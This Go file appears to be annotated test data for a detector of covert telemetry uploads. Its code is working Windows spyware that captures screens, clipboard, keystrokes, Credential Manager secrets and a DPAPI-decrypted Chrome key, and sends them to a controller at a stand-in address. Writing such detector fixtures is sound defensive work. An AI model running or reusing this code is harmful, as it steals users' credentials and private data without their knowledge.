// Annotated samples for the telemetry pack (Go): a Windows spy module — screenshots,
// clipboard, keystrokes and saved credentials sent to a controller.
package main

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"image/png"
	"log"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"syscall"
	"time"
	"unsafe"

	"github.com/atotto/clipboard"
	"github.com/danieljoos/wincred"
	"github.com/gorilla/websocket"
	"github.com/kbinani/screenshot"
	xclip "golang.design/x/clipboard"
	"golang.org/x/sys/windows"
)

var (
	user32               = syscall.NewLazyDLL("user32.dll")
	procGetAsyncKeyState = user32.NewProc("GetAsyncKeyState")
)

type Spy struct {
	conn   net.Conn
	ws     *websocket.Conn
	server string
}

var procGetKeyboardState = user32.NewProc("GetKeyboardState")

// GetKeyboardState is a local wrapper named after the Win32 API, as //sys generators write.
func GetKeyboardState(state *[256]byte) bool {
	r, _, _ := procGetKeyboardState.Call(uintptr(unsafe.Pointer(state)))
	return r != 0
}

// Screens encodes every display as PNG before sending it.
func (s *Spy) Screens() {
	n := screenshot.NumActiveDisplays()
	for i := 0; i < n; i++ {
		img, err := screenshot.CaptureDisplay(i)
		if err != nil {
			continue
		}
		var buf bytes.Buffer
		if err := png.Encode(&buf, img); err != nil {
			continue
		}
		s.conn.Write(buf.Bytes()) // want "telemetry/screen-upload"
	}
}

// RawRect posts the raw pixels of a screen region.
func (s *Spy) RawRect() error {
	bounds := screenshot.GetDisplayBounds(0)
	img, err := screenshot.CaptureRect(bounds)
	if err != nil {
		return err
	}
	resp, err := http.Post(s.server+"/frame", "application/octet-stream", bytes.NewReader(img.Pix)) // want "telemetry/screen-upload"
	if err != nil {
		return err
	}
	return resp.Body.Close()
}

// Live streams a region's pixels over the WebSocket channel.
func (s *Spy) Live(x, y, w, h int) {
	for {
		img, err := screenshot.Capture(x, y, w, h)
		if err != nil {
			return
		}
		s.ws.WriteMessage(websocket.BinaryMessage, img.Pix) // want "telemetry/screen-upload"
		time.Sleep(500 * time.Millisecond)
	}
}

// Thumbnail saves a screenshot to disk and only reports that it did.
func (s *Spy) Thumbnail() {
	img, err := screenshot.CaptureDisplay(0)
	if err != nil {
		return
	}
	f, _ := os.Create(filepath.Join(os.TempDir(), "thumb.png"))
	png.Encode(f, img)
	f.Close()
	s.conn.Write([]byte("SHOT saved\n")) // ok: the image stays on disk
}

// WatchClipboard sends the clipboard whenever it changes.
func (s *Spy) WatchClipboard() {
	last := ""
	for {
		text, err := clipboard.ReadAll()
		if err == nil && text != last {
			last = text
			s.conn.Write([]byte("CLIP " + text + "\n")) // want "telemetry/clipboard-upload"
		}
		time.Sleep(2 * time.Second)
	}
}

// ClipImage sends clipboard contents read through golang.design/x/clipboard.
func (s *Spy) ClipImage() {
	if err := xclip.Init(); err != nil {
		return
	}
	data := xclip.Read(xclip.FmtImage)
	b64 := base64.StdEncoding.EncodeToString(data)
	body, _ := json.Marshal(map[string]string{"kind": "image", "data": b64})
	http.Post(s.server+"/clip", "application/json", bytes.NewReader(body)) // want "telemetry/clipboard-upload"
}

// PasteFromServer writes text from the controller into the clipboard: nothing is read.
func (s *Spy) PasteFromServer(text string) {
	clipboard.WriteAll(text)
	s.conn.Write([]byte("PASTED\n")) // ok: the clipboard is written, not read
}

// Keylog polls GetAsyncKeyState through a lazily loaded user32 procedure.
func (s *Spy) Keylog() {
	var keys []byte
	for {
		for vk := 8; vk <= 255; vk++ {
			state, _, _ := procGetAsyncKeyState.Call(uintptr(vk))
			if state&0x1 != 0 {
				keys = append(keys, byte(vk))
			}
		}
		if len(keys) >= 64 {
			s.conn.Write(keys) // want "telemetry/keystroke-upload"
			keys = keys[:0]
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// Snapshot sends the whole keyboard state through the wrapper.
func (s *Spy) Snapshot() {
	var ks [256]byte
	if GetKeyboardState(&ks) {
		s.ws.WriteMessage(websocket.BinaryMessage, ks[:]) // want "telemetry/keystroke-upload"
	}
}

// IdleTime reports only whether the user is idle; key states are never sent.
func (s *Spy) IdleTime() {
	idle := true
	for vk := 1; vk < 256; vk++ {
		if st, _, _ := procGetAsyncKeyState.Call(uintptr(vk)); st != 0 {
			idle = false
		}
	}
	if idle {
		s.conn.Write([]byte("IDLE\n")) // ok: a constant
	}
}

// Vault sends the Windows Credential Manager's generic credentials.
func (s *Spy) Vault() {
	creds, err := wincred.List()
	if err != nil {
		return
	}
	type cred struct{ Target, User, Secret string }
	var out []cred
	for _, c := range creds {
		out = append(out, cred{c.TargetName, c.UserName, string(c.CredentialBlob)})
	}
	b, _ := json.Marshal(out)
	s.conn.Write(b) // want "telemetry/credential-upload"
}

// ChromeKey decrypts the browser's master key with DPAPI and sends it.
func (s *Spy) ChromeKey(localState []byte) {
	var st struct {
		OSCrypt struct {
			EncryptedKey string `json:"encrypted_key"`
		} `json:"os_crypt"`
	}
	if json.Unmarshal(localState, &st) != nil {
		return
	}
	enc, _ := base64.StdEncoding.DecodeString(st.OSCrypt.EncryptedKey)
	enc = enc[5:] // "DPAPI" prefix
	in := windows.DataBlob{Size: uint32(len(enc)), Data: &enc[0]}
	var out windows.DataBlob
	if err := windows.CryptUnprotectData(&in, nil, nil, 0, nil, 0, &out); err != nil {
		return
	}
	key := unsafe.Slice(out.Data, out.Size)
	s.conn.Write([]byte("KEY " + base64.StdEncoding.EncodeToString(key) + "\n")) // want "telemetry/credential-upload"
}

// Status reports that the module runs, and logs the user it runs as.
func (s *Spy) Status() {
	log.Printf("spy running as %s", os.Getenv("USERNAME"))
	s.conn.Write([]byte("UP\n")) // ok: the user name is only logged
}

func main() {
	conn, err := net.Dial("tcp", "198.51.100.40:443")
	if err != nil {
		return
	}
	ws, _, _ := websocket.DefaultDialer.Dial("wss://198.51.100.40/live", nil)
	s := &Spy{conn: conn, ws: ws, server: "https://198.51.100.40"}
	s.Screens()
	s.RawRect()
	s.Thumbnail()
	go s.WatchClipboard()
	s.ClipImage()
	go s.Keylog()
	s.Snapshot()
	go s.Live(0, 0, 800, 600)
	s.IdleTime()
	s.Vault()
	ls, _ := os.ReadFile(filepath.Join(os.Getenv("LOCALAPPDATA"), `Google\Chrome\User Data\Local State`))
	s.ChromeKey(ls)
	s.Status()
}
